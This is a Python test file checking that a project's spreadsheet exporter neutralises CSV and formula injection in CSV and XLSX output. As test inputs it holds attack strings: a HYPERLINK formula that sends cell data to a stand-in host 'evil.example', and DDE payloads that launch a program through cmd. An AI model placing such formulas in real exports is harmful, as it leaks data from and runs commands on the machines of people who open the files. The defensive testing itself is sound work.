"""Tables people open in a spreadsheet never carry a live formula (CSV injection)."""

from __future__ import annotations

import ast
import csv
import io
import re
import zipfile
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from maillage.tabular import spreadsheet

SRC = Path(__file__).resolve().parents[2] / "src" / "maillage"
ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def cells_of(data: bytes, excel: bool) -> list[list[str]]:
    text = data.decode("utf-8-sig" if excel else "utf-8")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";" if excel else ","))


def test_formulas_are_shown_as_text_and_numbers_and_phones_stay_as_they_are():
    assert spreadsheet.neutralise(ATTACK) == "'" + ATTACK
    for attack in (
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|'/C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "=1",
    ):
        assert spreadsheet.neutralise(attack) == "'" + attack
    for inert in (
        "-3,5",
        "+32 81 22 33 44",
        "+32 (0)81/22.33.44",
        "-",
        "2026-03-01",
        "Maison médicale = santé",
        "",
        "'déjà entre apostrophes",
    ):
        assert spreadsheet.neutralise(inert) == inert
    assert spreadsheet.neutralise(-3.5) == -3.5 and spreadsheet.neutralise(None) is None


@given(st.text(max_size=40), st.booleans())
def test_no_csv_cell_can_start_a_formula(value, excel):
    data = spreadsheet.csv_bytes([["nom"], [value]], excel)
    if excel:
        assert data.startswith("\ufeff".encode())
    written = cells_of(data, excel)[1][0] if value else ""
    if written.startswith(spreadsheet.FORMULA_STARTS):
        assert spreadsheet.INERT.fullmatch(written)
    assert written in (value, "'" + value) or value.strip() == ""


def test_xlsx_cells_are_strings_never_formulas():
    data = spreadsheet.xlsx_bytes(
        "Services", [["nom", "latitude"], [ATTACK, 50.46], ["+32 81 22 33 44", -4.5]]
    )
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        sheet = package.read("xl/worksheets/sheet1.xml").decode()
        strings = " ".join(
            package.read(name).decode()
            for name in package.namelist()
            if name.endswith("sharedStrings.xml")
        )
    assert "<f>" not in sheet and "<f " not in sheet
    assert "HYPERLINK" in sheet + strings  # kept, as text
    assert re.search(r"<v>-4.5</v>", sheet)  # numbers stay numbers


def test_every_table_writer_goes_through_the_neutralising_writer():
    """Read the sources: no module but tabular/spreadsheet.py writes CSV or XLSX itself."""
    offenders = []
    for path in SRC.rglob("*.py"):
        if path.name == "spreadsheet.py":
            continue
        source = path.read_text(encoding="utf-8")
        for phrase in ("csv.writer(", "csv.DictWriter(", "Workbook(", "to_excel(", "xlsxwriter"):
            if phrase in source:
                offenders.append(f"{path.relative_to(SRC)}: {phrase}")
        for node in ast.walk(ast.parse(source)):  # pandas' DataFrame.to_csv(path, index=…)
            if (
                isinstance(node, ast.Call)
                and isinstance(node.func, ast.Attribute)
                and node.func.attr == "to_csv"
                and {k.arg for k in node.keywords} & {"index", "sep", "float_format"}
            ):
                offenders.append(f"{path.relative_to(SRC)}:{node.lineno}: to_csv")
    assert offenders == []


@given(st.text(max_size=30))
def test_what_neutralise_writes_restore_gives_back_exactly(value):
    written = spreadsheet.neutralise(value)
    assert spreadsheet.restore(written) == value
    assert written == value or written == "'" + value


def test_apostrophes_already_there_survive_a_round_trip():
    for value in ("'=x", "''=x", "'abc", "'", "'-3,5"):
        assert spreadsheet.restore(spreadsheet.neutralise(value)) == value
    assert spreadsheet.neutralise("'=x") == "''=x"
    assert spreadsheet.neutralise("'abc") == "'abc"
